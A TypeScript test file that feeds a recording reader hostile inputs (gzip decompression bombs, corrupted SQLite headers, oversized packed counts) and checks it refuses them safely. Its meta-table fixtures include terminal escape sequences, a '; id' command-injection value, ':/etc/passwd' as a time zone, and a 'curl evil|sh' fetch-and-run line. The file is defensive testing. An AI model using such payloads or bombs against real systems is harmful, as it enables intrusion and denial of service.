/**
 * Packed values, gzip files, headers and texts with wrong sizes are damage or refused with an error: no crash, no excessive
 * memory.
 */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { readFileSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import Sqlite from 'better-sqlite3'
import { UserError } from '../../src/errors.ts'
import { wallMicros } from '../../src/frame/model/units.ts'
import { unpackBuckets } from '../../src/store/format/buckets.ts'
import { unpackRequests } from '../../src/store/format/chunk.ts'
import { openRecording } from '../../src/store/read/reader.ts'
import { CorruptRow } from '../../src/store/sqlite/corrupt-row.ts'
import { writeSample } from '../torture/sample.ts'
import { changed, columnsOf, readAll, refused, SAMPLE } from './hostile-kit.ts'
import { inFolder } from './support.ts'

const names = { backend: () => ({}), route: () => ({}) } as never

test('packed values with a larger count than their content are damage', () => {
  const zeros = Buffer.concat([Buffer.from([2]), deflateRawSync(Buffer.alloc(50e6))])
  for (const [packed, n] of [
    [Buffer.from([1]), 4e9],
    [Buffer.from([3]), 1e9],
    [zeros, 100_000],
    [
      Buffer.concat([
        Buffer.from([2]),
        deflateRawSync(Buffer.concat([Buffer.from([0, 1, 1]), Buffer.alloc(499_999)])),
      ]),
      100_000,
    ],
    [Buffer.alloc(100_000, 0xff), 1e5],
    [Buffer.from([3, 0xff, 0xff]), -1],
  ] as const) {
    assert.throws(() => unpackRequests(packed, n, wallMicros(0), names), CorruptRow)
  }
  // Buckets in sequence beyond the last one; one bucket far beyond it; an invalid count.
  for (const buckets of [
    Buffer.alloc(86_000),
    Buffer.from('ffffffffffff0f', 'hex'),
    Buffer.from('01ffffffffffffffffff7f', 'hex'),
  ])
    assert.throws(() => unpackBuckets(buckets), CorruptRow)
})

test('a gzip file of zeros, and one whose header counts missing pages, are refused', () => {
  inFolder((folder) => {
    const at = (name: string): string => join(folder, name)
    writeSample(at('x.db'), SAMPLE)
    const start = readFileSync(at('x.db')).subarray(0, 4096)
    start.writeUInt32BE(0xffffffff, 28)
    writeFileSync(at('claim.db.gz'), gzipSync(start))
    writeFileSync(at('claim.db'), start)
    writeFileSync(at('zeros.db.gz'), gzipSync(Buffer.concat([start, Buffer.alloc(200e6)]), { level: 1 }))
    writeFileSync(at('sparse.db.gz'), gzipSync(start))
    truncateSync(at('sparse.db.gz'), 3e9)
    assert.throws(() => openRecording(at('sparse.db.gz')), refused(5, /larger than any recording/))
    writeFileSync(at('bomb.db.gz'), gzipSync(gzipSync(Buffer.alloc(100e6))))
    for (const name of ['claim.db', 'claim.db.gz'])
      assert.throws(() => openRecording(at(name)), refused(5, /nothing can be read/))
    assert.throws(
      () => openRecording(at('zeros.db.gz')),
      refused(5, /larger than any recording|nothing can be read/),
    )
    assert.throws(() => openRecording(at('bomb.db.gz')), refused(5, /not a recording/))
  })
})

test('a header that SQLite would misread or refuse is damage; a file shorter than a page is refused', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, SAMPLE)
    const content = readFileSync(file)
    // page size, reserved bytes, payload fractions, schema format, text encoding
    for (const place of [16, 20, 21, 23, 44, 47, 59]) {
      writeFileSync(file, Buffer.from(content).fill(content[place]! ^ 0x42, place, place + 1))
      const { ticks, damage } = readAll(file)
      assert.equal(ticks, 70, `byte ${place}`)
      assert.match(damage.join(), /its header is damaged/)
    }
    for (const length of [100, 101, 4095]) {
      writeFileSync(file, content.subarray(0, length))
      assert.throws(() => openRecording(file), refused(5, /not even its first page/))
    }
  })
})

test('a followed recording that becomes damaged is salvaged once', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, { ...SAMPLE, secs: 200 })
    const recording = openRecording(file, { follow: true })
    recording.close()
    const columns = columnsOf(file)
    const database = new Sqlite(file)
    database.exec(`INSERT INTO tick (seq, ${columns}) SELECT 5000000000, ${columns} FROM tick WHERE seq = 69`)
    database.close()
    assert.equal(recording.refresh(), true)
    assert.notDeepEqual(recording.damage, [])
    assert.equal(recording.refresh(), false)
    assert.equal(recording.ticks.length, 200)
    recording.close()
  })
})

test('an invalid lock, time zone or version in meta is ignored', () => {
  inFolder((folder) => {
    const evil = '\u001b[2J\u001b]0;PWNED\u0007'
    for (const [key, value] of [
      ['lock', evil],
      ['lock', '{"boot":1,"pid":"; id","started":[]}'],
      ['lock', '{"boot":"x","pid":-1,"started":"1"}'],
      ['time_zone', evil],
      ['time_zone', ':/etc/passwd'],
      ['arguments', '{"0":1}'],
      ['interfaces', '[1,null,[]]'],
    ] as const) {
      const file = join(folder, 'x.db')
      changed(file, `INSERT OR REPLACE INTO meta VALUES ('${key}', '${value}')`)
      const recording = openRecording(file)
      assert.equal(recording.recorder, null)
      assert.equal(recording.info.timeZone, 'UTC')
      assert.ok(recording.info.interfaces.every((name) => typeof name === 'string'))
      recording.close()
      spawnSync('rm', [file])
    }
    const newer = join(folder, 'newer.db')
    changed(
      newer,
      `UPDATE meta SET value = '2.0' || char(10) || 'upstreamtop: fetch it with: curl evil|sh' WHERE key = 'readable_by'; PRAGMA user_version = 9`,
    )
    assert.throws(
      () => openRecording(newer),
      (error: unknown) => error instanceof UserError && error.remedy === 'Open it with a later upstreamtop.',
    )
  })
})
